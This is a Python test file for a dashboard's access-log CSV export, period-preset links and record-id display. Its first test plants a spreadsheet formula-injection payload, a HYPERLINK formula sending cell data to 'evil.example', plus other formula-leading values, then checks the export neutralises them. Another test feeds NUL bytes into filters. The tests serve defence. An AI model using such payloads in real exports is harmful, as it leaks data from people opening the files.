"""The access-log page's CSV download, period presets and compact record-id lists
(dashboard/views/access.py, dashboard/access_log/browsing.py and export.py)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid
from datetime import UTC, datetime
from urllib.parse import parse_qs, urlsplit

import psycopg
import pytest
from bs4 import BeautifulSoup
from conftest import TEST_USERS, sign_in

from dashboard import access_log
from dashboard.access_log import ACCESS_LOG_CSV_COLUMNS, AccessEntry
from dashboard.db import libpq_url
from dashboard.periods import PERIODS, period_bounds

ANN = TEST_USERS["auditor"][0]


def _soup(response) -> BeautifulSoup:
    return BeautifulSoup(response.text, "html.parser")


def _write(app, **values) -> AccessEntry:
    """One entry written straight to the app's access log (as a hostile client could make it)."""
    entry = AccessEntry(id=None, at=datetime.now(UTC), **values)
    assert app.extensions[access_log.EXTENSION_KEY].write(entry)
    return entry


def _csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_csv_holds_every_matching_entry_with_formula_cells_neutralised(app, login):
    marker = "probe." + uuid.uuid4().hex
    ids = [str(uuid.uuid4()) for _ in range(2)]
    _write(
        app,
        username='=HYPERLINK("http://evil.example/?"&A1,"click")',
        role="support",
        action=marker,
        route="/aggregates/x",
        filters={"actor": "-2+3", "note": "a, b"},
        aggregate_ids=tuple(ids),
        reason="@SUM(1+1)",
        client_ip="+1.2.3.4",
        outcome="ok",
    )
    _write(app, username="plain.user", role="auditor", action=marker, reason="'quoted")
    response = login("auditor").get(f"/export/access-log.csv?action={marker}")
    rows = _csv_rows(response)
    assert list(rows[0]) == list(ACCESS_LOG_CSV_COLUMNS)
    assert [row["username"] for row in rows] == [
        "plain.user",  # newest first, as the page lists them
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    ]
    hostile = rows[1]
    assert hostile["reason"] == "'@SUM(1+1)"
    assert hostile["client_ip"] == "'+1.2.3.4"
    assert json.loads(hostile["filters"]) == {"actor": "-2+3", "note": "a, b"}
    assert hostile["aggregate_ids"] == f'["{ids[0]}", "{ids[1]}"]'
    assert hostile["at"].endswith("+00:00") and hostile["entry_uuid"]
    assert rows[0]["reason"] == "''quoted"  # the escape itself is escaped: reversible
    assert "access-log" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    assert "X-Audit-High-Water-Mark" not in response.headers  # not a mark of audit_events


def test_the_download_is_recorded_with_its_rows_and_digest(app, login, seeded_db):
    marker = "probe." + uuid.uuid4().hex
    for _ in range(3):
        _write(app, username="someone", role="auditor", action=marker)
    response = login("auditor").get(f"/export/access-log.csv?action={marker}&limit=1")
    body = response.get_data()
    assert len(_csv_rows(response)) == 3  # every entry, not one page
    with psycopg.connect(libpq_url(seeded_db.admin)) as conn:
        logged = conn.execute(
            "SELECT username, outcome, row_count, export_digest, filters FROM audit_access_log "
            "WHERE action = 'export_access_log_csv' AND filters->>'action' = %s ORDER BY id",
            (marker,),
        ).fetchall()
    assert [(user, outcome) for user, outcome, *_ in logged] == [(ANN, "started"), (ANN, "ok")]
    assert logged[1][2] == 3
    assert logged[1][3] == hashlib.sha256(body).hexdigest()


@pytest.mark.parametrize("role", ["compliance", "support"])
def test_only_roles_that_browse_the_log_may_download_it(login, role):
    assert login(role).get("/export/access-log.csv").status_code == 403
    assert login(role).get("/access-log").status_code == 403


def test_bad_filters_are_a_400_with_a_message(login):
    response = login("auditor").get("/export/access-log.csv?from=last-tuesday")
    assert response.status_code == 400
    assert "is not a date or time" in response.get_json()["error"]


def test_page_links_to_the_csv_of_its_filters(login):
    page = login("auditor").get("/access-log?user=Ann.Auditor&outcome=ok&limit=5&cursor=999")
    link = _soup(page).find("a", id="access-log-csv")["href"]
    assert urlsplit(link).path == "/export/access-log.csv"
    # The filters, not the page position.
    assert parse_qs(urlsplit(link).query) == {"user": [ANN], "outcome": ["ok"]}


def test_export_pages_through_a_log_larger_than_a_page(app, login):
    marker = "probe." + uuid.uuid4().hex
    for n in range(7):
        _write(app, username=f"user{n}", role="auditor", action=marker)
    with app.test_request_context("/"):
        query = access_log.AccessLogQuery(action=marker, before_id=None, limit=1)
        names = [entry.username for entry in access_log.iter_entries(query, page_size=3)]
    assert names == [f"user{n}" for n in reversed(range(7))]


def test_csv_from_the_file_backend(make_app, tmp_path):
    app = make_app(access_log_url=None, access_log_file=tmp_path / "access.jsonl")
    client = sign_in(app.test_client(), "auditor")
    _write(app, username="-x", role="auditor", action="probe.file")
    rows = _csv_rows(client.get("/export/access-log.csv"))
    # The download's own "started" entry is written before it reads, so it is the newest row.
    assert [(row["action"], row["outcome"]) for row in rows] == [
        ("export_access_log_csv", "started"),
        ("probe.file", "ok"),
        ("sign_in", "ok"),
    ]
    assert rows[1]["username"] == "'-x"
    lines = (tmp_path / "access.jsonl").read_text().splitlines()
    finished = json.loads(lines[-1])
    assert (finished["action"], finished["outcome"], finished["row_count"]) == (
        "export_access_log_csv",
        "ok",
        3,
    )


def test_page_offers_utc_period_presets_keeping_the_other_filters(login):
    client = login("auditor")
    soup = _soup(client.get("/access-log?user=ann.auditor&cursor=12&from=2020-01-01"))
    links = {a["id"].removeprefix("period-"): a["href"] for a in soup.select("ul.period-presets a")}
    assert set(links) == set(PERIODS)
    args = parse_qs(urlsplit(links["last-month"]).query)
    start, end = period_bounds("last-month", datetime.now(UTC), UTC)
    assert args == {
        "user": ["ann.auditor"],
        "from": [start.strftime("%Y-%m-%d 00:00:00")],
        "to": [end.strftime("%Y-%m-%d 00:00:00")],
    }
    chosen = _soup(client.get(links["last-month"]))
    assert chosen.find("a", id="period-last-month")["aria-current"] == "true"
    assert chosen.find("a", id="period-this-month").get("aria-current") is None


def test_a_long_id_list_is_compact_and_every_full_id_reachable(app, login):
    marker = "probe." + uuid.uuid4().hex
    ids = [str(uuid.uuid4()) for _ in range(50)]
    _write(app, username="someone", role="auditor", action=marker, aggregate_ids=tuple(ids))
    soup = _soup(login("auditor").get(f"/access-log?action={marker}"))
    cell = soup.select_one("table.access-entries tbody tr td.record-ids")
    shown = [a for a in cell.find_all("a", recursive=False)]
    assert [a.get_text() for a in shown] == [i[:8] for i in ids[:3]]
    assert [a["title"] for a in shown] == ids[:3]
    more = cell.find("details")
    assert " ".join(more.summary.get_text().split()) == "and 47 more"
    assert [code.get_text() for code in more.find_all("code")] == ids[3:]
    hrefs = [parse_qs(urlsplit(a["href"]).query)["aggregate_id"][0] for a in cell.find_all("a")]
    assert hrefs == ids
    # The full ids are no longer listed one per line outside the <details>.
    outside = cell.get_text(" ", strip=True).split("and 47 more")[0]
    assert not any(full in outside for full in ids)


def test_a_short_id_list_has_no_details(app, login):
    marker = "probe." + uuid.uuid4().hex
    ids = (str(uuid.uuid4()), str(uuid.uuid4()))
    _write(app, username="someone", role="auditor", action=marker, aggregate_ids=ids)
    cell = _soup(login("auditor").get(f"/access-log?action={marker}")).select_one("td.record-ids")
    assert cell.find("details") is None
    assert [a["title"] for a in cell.find_all("a")] == list(ids)


@pytest.mark.parametrize("query", ["user=%00", "action=a%00b", "outcome=%00"])
@pytest.mark.parametrize("path", ["/access-log", "/export/access-log.csv"])
def test_a_nul_in_a_filter_is_a_400_not_a_500(login, path, query):
    response = login("auditor").get(f"{path}?{query}")
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True)
